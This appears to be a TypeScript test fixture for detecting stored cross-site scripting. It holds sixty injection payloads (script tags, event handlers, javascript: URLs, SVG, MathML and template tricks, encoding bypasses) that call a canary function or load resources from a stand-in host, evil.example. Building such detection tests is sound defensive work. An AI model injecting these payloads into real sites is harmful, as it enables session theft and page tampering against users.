/** The function that every payload calls when it runs as a script; its argument identifies the payload. */
export const canaryCall = 'zqxss'
/** A host that does not exist: any request to it was caused by a payload. */
export const foreignHost = 'evil.example'

const call = `${canaryCall}(№)`

/** Sixty script injections. `№` is replaced by the number of the stored text. */
export const payloads: readonly string[] = [
  // Elements that run on their own.
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<script src="data:,${call}"></script>`,
  `<script src=//${foreignHost}/№></script>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  // Event handlers.
  `<img src=x onerror=${call}>`,
  `"><img src=x onerror=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror="zqxss&#40;№&#41;">`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `" onfocus=${call} autofocus x="`,
  `' onmouseover=${call} x='`,
  // SVG and MathML.
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x>`,
  `<svg><set attributeName=onmouseover to=${call}>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  // Frames, forms and elements that affect the whole page.
  `<iframe src=javascript:${call}></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data=javascript:${call}></object>`,
  `<embed src=javascript:${call}>`,
  `<form action=javascript:${call}><button>x</button></form>`,
  `<button formaction=javascript:${call}>x</button>`,
  `<style>@import'//${foreignHost}/№';</style>`,
  `<link rel=stylesheet href=//${foreignHost}/№>`,
  `<base href=//${foreignHost}/№>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<div style="background:url(//${foreignHost}/№)">x</div>`,
  // URLs.
  `<a href=javascript:${call}>x</a>`,
  `<a href="jav&#x09;ascript:${call}">x</a>`,
  `<a href=" &#1; javascript:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `https://x.example/"onmouseover="${call}`,
  `https://x.example/'onfocus='${call}'autofocus='`,
  `[x](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `{"type":"link","link":"javascript:${call}","text":"<img src=x onerror=${call}>"}`,
  // Templates, lookalike characters and encodings.
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}} #{${call}} <%= ${call} %>`,
  `＜script＞${call}＜/script＞`,
  `\u202e<script>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `%3Cscript%3E${call}%3C/script%3E`,
]

export const buildPayload = (index: number, number: number): string =>
  (payloads[index % payloads.length] ?? '').replaceAll('№', String(number))
